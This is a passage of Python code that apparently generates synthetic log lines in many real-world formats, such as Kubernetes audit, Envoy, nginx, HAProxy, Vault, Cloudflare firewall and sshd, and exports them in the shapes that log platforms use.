        "resource": {"type": "http_load_balancer", "labels": {"backend_service_name": service, "forwarding_rule_name": "web-fr", "project_id": s.company + "-prod", "target_proxy_name": "web-proxy", "url_map_name": "web", "zone": "global"}}, "timestamp": z(t, 6), "severity": "WARNING" if status >= 400 else "INFO", "logName": "projects/%s-prod/logs/requests" % s.company, "trace": "projects/%s-prod/traces/%s" % (s.company, trace or s.hex(32)), "receiveTimestamp": z(t + sec(.6), 6), "spanId": s.hex(16)})


def run(s, t, ip, method, path, status, service="orders", text=None, agent="Go-http-client/2.0", trace=None):
    """Cloud Run request log"""
    return s.json("cloudrun.json", t, {"insertId": s.hex(18), **({"textPayload": text} if text else {}), "httpRequest": {"requestMethod": method, "requestUrl": "https://%s-%s.a.run.app%s" % (service, once(s, "run")[:10].replace("-", ""), path), "requestSize": str(s.some(60, 900)), "status": status, "responseSize": str(s.some(120, 9000)), "userAgent": agent, "remoteIp": ip, "serverIp": "216.239.36.53", "latency": "0s" if text else "0.%06ds" % s.some(2000, 400000), "protocol": "HTTP/1.1"},
        "resource": {"type": "cloud_run_revision", "labels": {"service_name": service, "revision_name": service + "-00042-kiv", "location": "europe-west1", "project_id": s.company + "-prod", "configuration_name": service}}, "timestamp": z(t, 6), "severity": "WARNING" if status >= 400 else "INFO", "logName": "projects/%s-prod/logs/run.googleapis.com%%2Frequests" % s.company, "trace": "projects/%s-prod/traces/%s" % (s.company, trace or s.hex(32)), "receiveTimestamp": z(t + sec(.3), 6), "spanId": s.hex(16)})


# clusters and meshes

def sa(ns, name): return "system:serviceaccount:%s:%s" % (ns, name)


def kube(s, t, user, verb, resource, ns="shop", name=None, code=200, message=None, reason=None, why="Forbidden", ip=None, agent="kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9", api="", decision=None, body=None, extra=None, groups=("system:authenticated",), uri=None, file="kube-audit.json"):
    """Kubernetes audit.k8s.io/v1 Event"""
    rest = uri or "%s%s/%s%s" % ("/apis/%s/v1" % api if api else "/api/v1", "/namespaces/" + ns if ns else "", resource, "/" + name if name and verb != "create" else "")
    decision = decision or ("forbid" if code == 403 else "allow")
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request" if body else "Metadata", "auditID": s.uuid(), "stage": "ResponseComplete", "requestURI": rest, "verb": verb, "user": {"username": user, "groups": list(groups)} if code != 401 else {}, "sourceIPs": [ip or s.lan(17)], "userAgent": agent}
    if not uri: e["objectRef"] = {k: v for k, v in (("resource", resource), ("namespace", ns), ("name", name), ("apiGroup", api), ("apiVersion", "v1")) if v}
    e["responseStatus"] = {"metadata": {}, "code": code} if code < 300 else {"metadata": {}, "status": "Failure", "message": message, "reason": why, "code": code}
    if body: e["requestObject"] = body
    e.update({"requestReceivedTimestamp": z(t, 6), "stageTimestamp": z(t + sec(.004), 6)})
    if code != 401: e["annotations"] = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason if reason is not None else ("" if decision == "forbid" else 'RBAC: allowed by ClusterRoleBinding "view-all" of ClusterRole "view" to Group "system:authenticated"'), **(extra or {})}
    return s.json(file, t, e)


def cannot(user, verb, resource, ns, name="", api=""): return '%s%s is forbidden: User "%s" cannot %s resource "%s" in API group "%s" in the namespace "%s"' % (resource + ("." + api if api else ""), ' "%s"' % name if name else "", user, verb, resource, api, ns)


def mesh(s, t, method, path, status, flags, details, client, service="ledger", peer=None, agent="okhttp/4.12.0", rid=None, body=None, file="istio-proxy.log"):
    """Istio's default text access log"""
    up = details == "via_upstream"
    return s.put(file, t, '[%s] "%s %s HTTP/1.1" %d %s %s - "-" 0 %d %d %s "%s" "%s" "%s" "%s.%s.svc:8080" "%s" inbound|8080|| %s %s:8080 %s:%d outbound_.8080_._.%s.shop.svc.cluster.local default' % (
        z(t), method, path, status, flags, details, body or (19 if status == 403 and not up else s.some(20, 4000)), s.some(0, 60), s.some(1, 55) if up else "-", client, agent, rid or s.uuid(), service, "shop", s.lan(50) + ":8080" if up else "-", "127.0.0.6:%d" % s.some(30000, 60000) if up else "-", s.lan(50), peer or client, s.some(30000, 60000), service))


def envoy(s, t, ip, method, path, status, details, flags="-", rid=None, agent=None, xff=None, file="gateway.json", cluster="orders", host=None, more=None):
    """Envoy JSON access log with the fields that Envoy Gateway writes"""
    up = details == "via_upstream"
    return s.json(file, t, dict({"start_time": z(t), "method": method, "x-envoy-origin-path": path, "protocol": "HTTP/2", "response_code": status, "response_flags": flags, "response_code_details": details, "connection_termination_details": None, "upstream_transport_failure_reason": None, "bytes_received": 0, "bytes_sent": s.some(19, 5000), "duration": s.some(0, 90), "x-envoy-upstream-service-time": str(s.some(1, 80)) if up else None, "x-forwarded-for": xff or ip, "user-agent": agent or s.agent(0), "x-request-id": rid or s.uuid(), ":authority": host or "api." + s.domain, "upstream_host": s.lan(60) + ":8080" if up else None, "upstream_cluster": "httproute/shop/%s/rule/0" % cluster, "downstream_remote_address": "%s:%d" % (ip, s.some(20000, 64000)), "requested_server_name": host or "api." + s.domain, "route_name": "httproute/shop/%s/rule/0/match/0" % cluster}, **(more or {})))


def ingress(s, t, ip, method, path, status, up=None, rid=None, agent=None, user="-", referer="-", service="shop-web-80", file="ingress.log"):
    """ingress-nginx's default log format; no upstream is an empty field"""
    return s.put(file, t, '%s - %s [%s] "%s %s HTTP/2.0" %d %d "%s" "%s" %d 0.%03d [%s] [] %s %s %s %s %s' % (ip, user, clf(t), method, path, status, s.some(120, 9000), referer, agent or s.agent(0), s.some(60, 900), s.some(0, 200), service, s.lan(70) + ":8080" if up else "-", s.some(120, 9000) if up else "-", "0.%03d" % s.some(1, 200) if up else "-", up or "-", rid or s.hex(32)))


# servers

def combined(s, t, ip, method, path, status, user="-", size=None, agent=None, referer="-", file="access.log", tail=""):
    return s.put(file, t, '%s - %s [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"%s' % (ip, user, clf(t), method, path, status, (s.some(150, 20000) if status < 400 else s.some(120, 700)) if size is None else size, referer, agent or s.agent(0), tail))


def ngerr(s, t, ip, method, path, text, host=None, level="error", file="error.log", extra=""):
    return s.put(file, t, '%s [%s] 31#31: *%d %s, client: %s, server: %s, request: "%s %s HTTP/1.1"%s, host: "%s"' % (t.strftime("%Y/%m/%d %H:%M:%S"), level, s.next(), text, ip, host or "www." + s.domain, method, path, extra, host or "www." + s.domain))


def aperr(s, t, ip, module, text, level="error", file="error.log"):
    return s.put(file, t, "[%s] [%s:%s] [pid 1187:tid 1402%04d] [client %s:%d] %s" % (t.strftime("%a %b %d %H:%M:%S.%f %Y"), module, level, s.some(0, 9999), ip, s.some(20000, 64000), text))


def hap(s, t, ip, method, path, status, ending="----", backend="be_web/web1", frontend="fe_tls~", file="haproxy.log", captured="", size=None):
    own = ending.startswith("P")
    return s.put(file, t, '%s %s haproxy[2211]: %s:%d [%s.%03d] %s %s %s %d %d - - %s %d/%d/0/0/0 0/0 %s"%s %s HTTP/1.1"' % (bsd(t), s.node, ip, s.some(20000, 64000), t.strftime("%d/%b/%Y:%H:%M:%S"), t.microsecond // 1000, frontend, frontend.rstrip("~") + "/<NOSRV>" if own else backend, "0/-1/-1/-1/0" if own else "0/0/1/%d/%d" % (s.some(3, 60), s.some(61, 99)), status, size or (192 if own else s.some(200, 9000) if status < 400 else s.some(160, 700)), ending, s.some(20, 60), s.some(1, 20), captured, method, path))


def app(s, t, level, logger, message, file="app.log", **fields):
    """an application's JSON line"""
    return s.json(file, t, dict({"ts": z(t), "level": level, "logger": logger, "msg": message}, **fields))


# artefact stores, pipelines, secrets

def arti(s, t, what, place, who, ip, file="artifactory-access.log"):
    """Artifactory access log; the request log's line of the same request has its trace id"""
    s.trace = s.hex(16)
    return s.put(file, t, "%s [%s] [%s] %sfor %s/%s." % (z(t), s.trace, what, place + "  " if place else "", who, ip))


def artireq(s, t, ip, who, method, path, status, agent="Artifactory/7.111", file="artifactory-request.log"):
    """Artifactory request log"""
    return s.put(file, t, "%s|%s|%s|%s|%s|%s|%d|-1|%d|%d|%s" % (z(t), s.trace, ip, who, method, path, status, s.some(100, 90000) if status < 300 else 0, s.some(2, 300), agent))


def gitlab(s, t, who, method, path, status, ip, agent="curl/8.14.1", **more):
    """GitLab api_json.log"""
    return s.json("api_json.log", t, dict({"time": z(t), "severity": "INFO", "duration_s": round(s.r.uniform(.01, .4), 5), "db_duration_s": .004, "status": status, "method": method, "path": path, "params": [], "host": "git." + s.domain, "remote_ip": ip, "ua": agent, "route": path.split("?")[0], "correlation_id": s.hex(26).upper(), "meta.remote_ip": ip, "meta.client_id": "ip/" + ip}, **dict({"user_id": sum(who.encode()), "username": who} if who else {}, **more)))


def hcv(s, t, who, op, path, ip, error=None, policies=("default",), kind="token"):
    """HashiCorp Vault audit device, a response entry"""
    return s.json("vault-audit.json", t, {"time": z(t, 6), "type": "response", "auth": {"client_token": "hmac-sha256:" + once(s, who + "tok").replace("-", "") * 2, "accessor": "hmac-sha256:" + once(s, who).replace("-", "") * 2, "display_name": who, "policies": list(policies), "token_policies": list(policies), "metadata": {"role": who}, "entity_id": once(s, who + "e"), "token_type": "service"} if kind == "token" else {},
        "request": {"id": s.uuid(), "client_id": once(s, who + "c"), "operation": op, "mount_type": "kv", "client_token": "hmac-sha256:" + once(s, who + "tok").replace("-", "") * 2, "namespace": {"id": "root"}, "path": path, "remote_address": ip, "remote_port": s.some(20000, 64000)}, "response": {"mount_type": "kv"} if not error else {"data": {"error": "hmac-sha256:" + s.hex(64)}}, **({"error": error} if error else {})})


# exports: how people have logs

def exported(s, file, style, labels=None):
    """the lines of a file as a log platform hands them out, one record a line"""
    labels = labels or {"app": s.company, "env": "prod"}
    for e in s.lines[file]:
        t, text = e["t"], e["text"]
        e["text"] = {"loki": lambda: json.dumps({"labels": labels, "line": text, "timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"}),
            "splunk": lambda: json.dumps({"preview": False, "offset": e["n"], "result": {"_raw": text, "_time": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00", "host": s.node, "index": "prod", "source": "/var/log/" + file, "sourcetype": labels.get("sourcetype", "app")}}),
            "elastic": lambda: json.dumps({"_index": "filebeat-9.1.0-" + t.strftime("%Y.%m.%d"), "_id": once(s, file + str(e["n"]))[:20], "_score": 1, "_source": {"@timestamp": z(t), "message": text, "host": {"name": s.node}, "log": {"file": {"path": "/var/log/" + file}}, "agent": {"type": "filebeat", "version": "9.1.0"}}}),
            "cloudwatch": lambda: json.dumps({"logStreamName": labels.get("stream", "web/1"), "timestamp": int(t.timestamp() * 1000), "message": text, "ingestionTime": int(t.timestamp() * 1000) + 1200, "eventId": str(38 * 10 ** 54 + e["n"])}),
            "docker": lambda: json.dumps({"log": text + "\n", "stream": "stdout", "time": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "123Z"}),
            "cri": lambda: "%s stdout F %s" % (t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "123Z", text),
            "tail": lambda: "%s %s %s" % (t.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00"), labels.get("stream", "web/1"), text)}[style]()


PATHS = ("/", "/products", "/products/{n}", "/cart", "/account", "/orders/{n}", "/search?q=lamp", "/help", "/static/app.{n}.js")
def somewhere(s): return s.r.choice(PATHS).format(n=s.some(100, 999))


def flare(s, t, ip, method, path, action, source, rule="", text="", country="de", agent=None, status=403, referer="", asn=64510, ray=None):
    """Cloudflare firewall events, Logpush"""
    p, _, q = path.partition("?")
    return s.json("cf-events.json", t, {"Action": action, "ClientASN": asn, "ClientASNDescription": "TRANSIT-%d" % asn, "ClientCountry": country, "ClientIP": ip, "ClientIPClass": "noRecord", "ClientRefererHost": referer, "ClientRefererPath": "/" if referer else "", "ClientRefererQuery": "", "ClientRefererScheme": "https" if referer else "", "ClientRequestHost": "www." + s.domain, "ClientRequestMethod": method, "ClientRequestPath": p, "ClientRequestProtocol": "HTTP/2", "ClientRequestQuery": "?" + q if q else "", "ClientRequestScheme": "https", "ClientRequestUserAgent": agent or s.agent(0), "Datetime": z(t, 0), "Description": text, "EdgeColoCode": "FRA", "EdgeResponseStatus": status, "Kind": "firewall", "MatchIndex": 0, "Metadata": {}, "OriginResponseStatus": 0, "OriginatorRayID": "00", "RayID": ray or s.hex(16), "Ref": "", "RuleID": rule, "Source": source})


def flarehttp(s, t, ip, method, path, status, ray=None, agent=None, country="de", origin=None, source="", rule="", action="", referer=""):
    """Cloudflare HTTP requests, Logpush"""
    return s.json("cf-http.json", t, {"CacheCacheStatus": "dynamic", "ClientCountry": country, "ClientIP": ip, "ClientRequestHost": "www." + s.domain, "ClientRequestMethod": method, "ClientRequestReferer": referer, "ClientRequestURI": path, "ClientRequestUserAgent": agent or s.agent(0), "EdgeEndTimestamp": z(t + sec(.08), 0), "EdgeResponseBytes": s.some(300, 9000), "EdgeResponseStatus": status, "EdgeStartTimestamp": z(t, 0), "OriginIP": s.lan(5) if origin else "", "OriginResponseStatus": origin or 0, "RayID": ray or s.hex(16), "SecurityAction": action, "SecurityRuleID": rule, "SecuritySources": [source] if source else [], "WorkerStatus": "unknown"})


def fail2ban(s, t, text, level="NOTICE", part="actions", file="fail2ban.log"):
    return s.put(file, t, "%s fail2ban.%-15s [811]: %-7s %s" % (t.strftime("%Y-%m-%d %H:%M:%S,%f")[:-3], part, level, text))


def avc(s, t, comm, verb, name, source, target, tclass="file"):
    return s.put("audit.log", t, 'type=AVC msg=audit(%d.%03d:%d): avc:  denied  { %s } for  pid=%d comm="%s" name="%s" dev="vda3" ino=%d scontext=system_u:system_r:%s:s0 tcontext=unconfined_u:object_r:%s:s0 tclass=%s permissive=0' % (int(t.timestamp()), t.microsecond // 1000, s.next(), verb, s.some(900, 9000), comm, name, s.some(10000, 99999), source, target, tclass))


def sshline(s, t, pid, text, host="sftp1", file="auth.log"): return s.put(file, t, "%s %s sshd[%d]: %s" % (bsd(t), host, pid, text))
